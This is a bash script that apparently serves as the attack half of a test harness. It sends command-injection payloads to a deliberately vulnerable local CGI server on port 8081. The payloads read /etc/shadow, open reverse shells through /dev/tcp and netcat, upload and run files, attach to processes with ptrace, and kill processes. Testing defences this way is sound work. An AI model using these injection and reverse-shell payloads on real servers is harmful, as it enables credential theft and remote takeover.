#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
#
# cgi-attack.sh KIND [ARGUMENT]: attacks the server of cgi-test.sh through its
# holes and prints the answer. Nothing here knows of the machine but port 8081.
#
#   shadow            prints /etc/shadow
#   shadow-shell      the same without any program: the shell reads it itself
#   reverse-bash      a shell for whoever listens on 127.0.0.1:4444
#   reverse-nc        the same with a program that the site uses itself
#   upload FILE PID   uploads FILE as /tmp/.uploaded and runs it on PID
#   python PID        traces PID with python's ctypes
#   trace PID         traces PID with the site's own tool
#   kill PID          kills PID with the shell's own kill

set -u
url=http://127.0.0.1:8081/cgi-bin
post() { # post PROGRAM: standard input
	curl -q --noproxy '*' --silent --max-time 20 --data-binary @- "$url/$1"
}

kind=${1:?usage: cgi-attack.sh KIND [ARGUMENT]}
case $kind in
shadow) post note <<<'hello; cat /etc/shadow' ;;
shadow-shell) post note <<<'hello; read line </etc/shadow; echo "$line"; cat ../../notes/shopping' ;;
reverse-bash) post note <<<'hello; bash -c "exec bash >/dev/tcp/127.0.0.1/4444 2>&1 <&1"' ;;
reverse-nc) post port <<<'8081; nc 127.0.0.1 4444 | sh; true' ;;
upload)
	{
		echo "hello; cat >/tmp/.uploaded; chmod 755 /tmp/.uploaded; /tmp/.uploaded $3"
		cat "$2"
	} | post note
	;;
python)
	post note <<<"hello; /usr/bin/python3 -c 'import ctypes; libc = ctypes.CDLL(None); print(libc.ptrace(0x4206, $2, None, None) or \"attached\")'"
	;;
trace) post trace <<<"$2" ;;
kill) post note <<<"hello; kill -KILL $2; echo killed" ;;
*)
	echo "cgi-attack.sh: no such attack: $kind" >&2
	exit 2
	;;
esac
